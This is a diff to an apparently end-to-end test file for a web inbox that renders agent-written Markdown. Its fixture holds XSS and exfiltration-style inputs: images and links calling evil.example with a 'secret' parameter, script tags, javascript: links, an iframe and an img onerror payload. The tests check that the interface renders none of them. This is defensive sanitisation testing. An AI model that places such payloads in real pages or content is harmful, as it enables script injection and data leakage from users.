@@ -16,7 +16,7 @@ const HOSTILE = [
   "# A heading",
   "![pixel](https://evil.example/a.png?d=secret) [a link](https://evil.example/x) <img src='https://evil.example/b.png'> <script>document.title='owned'</script>",
   "<a href='javascript:document.title=1'>press</a> <iframe src='https://evil.example'></iframe> https://evil.example/bare",
-  "```js\nconst a = 1;\n```",
+  "```js\nconst a = '<img src=x onerror=document.title=1>';\n```",
   "| a | b |\n| - | - |\n| 1 | 2 |",
 ].join("\n\n");
 const offline = offlineModel();
@@ -58,7 +58,11 @@ test("the first load of the inbox fetches less than 160 KB in all, and nothing f
   await network.send("Network.enable");
   await network.send("Network.setCacheDisabled", { cacheDisabled: true });
   const codings = new Set<string | undefined>();
-  page.on("response", (response) => /\.(js|css)$/.test(response.url()) && codings.add(response.headers()["content-encoding"]));
+  const fetched: string[] = [];
+  page.on("response", (response) => {
+    fetched.push(response.url());
+    if (/\.(js|css)$/.test(response.url())) codings.add(response.headers()["content-encoding"]);
+  });
   let bytes = 0;
   network.on("Network.loadingFinished", ({ encodedDataLength }) => (bytes += encodedDataLength));
   await page.reload({ waitUntil: "networkidle" });
@@ -67,6 +71,7 @@ test("the first load of the inbox fetches less than 160 KB in all, and nothing f
   expect(bytes).toBeGreaterThan(50 * 1024);
   expect(bytes).toBeLessThan(160 * 1024);
   expect(codings).toContain("br");
+  expect(fetched.join(" ")).not.toMatch(/coloured-code|markdown/);
   expect(faults).toEqual([]);
 });
 
@@ -227,6 +232,8 @@ test("nothing an agent writes becomes a link, a picture or a script, or reaches 
   // One for each block of code, to copy it, is ours.
   expect(await prose.getByRole("button", { name: "Copy the code" }).count()).toBe(1);
   expect(await prose.locator("button").count()).toBe(await prose.locator("pre").count());
+  // Its colours come in pieces of text.
+  await prose.locator("pre span", { hasText: "<img src=x onerror=document.title=1>" }).waitFor();
   expect(await prose.innerText()).toContain("[Image blocked: pixel]");
   expect(await page.title()).not.toContain("owned");
   expect(faults).toEqual([]);
